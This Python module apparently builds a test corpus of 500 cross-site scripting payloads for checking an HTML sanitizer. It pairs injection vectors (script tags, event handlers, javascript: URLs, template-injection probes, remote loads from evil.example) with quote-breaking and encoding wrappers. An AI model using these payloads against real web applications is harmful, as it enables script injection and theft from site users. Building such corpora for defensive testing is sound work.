"""Five hundred texts that would like to be scripts, made from vectors and the surroundings that let them out."""

from itertools import product

HOST = "https://evil.example"

_VECTORS = (
    "<script>hit()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=https://evil.example/x.png>",
    "<image href=https://evil.example/i.png>",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=https://evil.example/o.swf></object>",
    "<embed src=https://evil.example/e.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/b.png)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus onfocus=hit()>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video src=https://evil.example/v.mp4 onerror=hit() autoplay></video>",
    "<audio src=x onerror=hit()></audio>",
    "<body onpageshow=hit()>",
    "<a href=javascript:hit() id=x>x</a>",
    "<b onmouseover=hit() onpointerover=hit()>x</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<dialog open onclose=hit()>x</dialog>",
    "<portal src=https://evil.example/></portal>",
    "<source srcset='https://evil.example/s.png 2x'><picture><img srcset=https://evil.example/p.png></picture>",
    "<template><script>hit()</script></template><x onclick=hit()>x</x>",
    "<a ping=https://evil.example/p href=/>x</a><track src=https://evil.example/t.vtt default>",
    "javascript:hit()//https://evil.example/",
    "data:text/html,<script>parent.hit()</script>",
    "{{constructor.constructor('hit()')()}}${hit()}#{hit()}<%= hit() %>{% hit() %}",
    "{{ config }}{{ ''.__class__.__mro__ }}{{ self.__init__.__globals__ }}",
    "';hit();//\";hit();//`;hit();//${hit()}",
    "</span><span style=background:url(https://evil.example/u.png)>x",
)
_SURROUNDINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</template></title></textarea></script></style>{}",
    "--><!--{}",
    "]]>{}<![CDATA[",
    '" autofocus onfocus=hit() x="{}',
    "\u202e{}\u2066",
    "&lt;{}&gt;&#60;script&#62;hit()&#60;/script&#62;",
    "\u3008{}\u3009\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\\u003c{}\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "\t\x0b{}\x1f\u2028\u2029",
    "<{}<<script>hit()//<</script>",
    "%3Cscript%3Ehit()%3C/script%3E{}",
)

PAYLOADS = tuple(
    surrounding.replace("{}", vector) for surrounding, vector in product(_SURROUNDINGS, _VECTORS)
)[:500]
